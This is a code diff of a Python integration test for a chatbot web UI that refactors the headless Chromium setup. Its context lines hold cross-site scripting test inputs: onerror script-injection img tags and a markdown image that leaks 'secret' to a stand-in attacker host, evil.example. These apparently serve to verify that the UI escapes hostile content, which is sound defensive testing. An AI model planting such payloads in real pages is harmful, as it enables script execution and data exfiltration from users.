@@ -5,7 +5,6 @@ corpus, phones, keyboard-only use, contrast, and no request to any other host.""
 from __future__ import annotations
 
 import json
-import os
 import shutil
 import time
 from collections.abc import Iterator, Sequence
@@ -20,15 +19,10 @@ import pytest
 from bot.answer import Answer
 from bot.config import Settings
 from bot.ui import SUGGESTIONS, build_app, page_options
-from tests.conftest import GUIDE, HashingEmbeddings, free_port
+from tests.conftest import CHROMIUM, GUIDE, HashingEmbeddings, free_port
 
 pytestmark = pytest.mark.integration
 
-CHROMIUM = os.environ.get("FAQBOT_CHROMIUM", "/usr/bin/chromium")
-# Without the background-networking flags Chromium phones home, which a closed network refuses.
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
-                 "--no-first-run", "--disable-background-networking",
-                 "--disable-component-update", "--disable-sync"]  # fmt: skip
 XSS = "<img src=x onerror=alert(1)>"
 PAYLOAD = f'{XSS} <img src=x onerror="window.__pwned=1"> ![x](http://evil.example/?q=secret)'
 HOSTILE_DOC = """# Decoder ring <img src=x onerror=alert(1)> notes
@@ -44,7 +38,7 @@ if not Path(CHROMIUM).exists():
         "or set FAQBOT_CHROMIUM",
         allow_module_level=True,
     )
-from playwright.sync_api import Browser, Dialog, Page, expect, sync_playwright  # noqa: E402
+from playwright.sync_api import Browser, Dialog, Page, expect  # noqa: E402
 
 
 class RecordingChain:
@@ -96,14 +90,6 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
         yield Server(f"http://127.0.0.1:{port}/", settings, chain)
     finally:
         app.close()
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with sync_playwright() as p:
-        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-        yield b
-        b.close()
 
 
 @dataclass
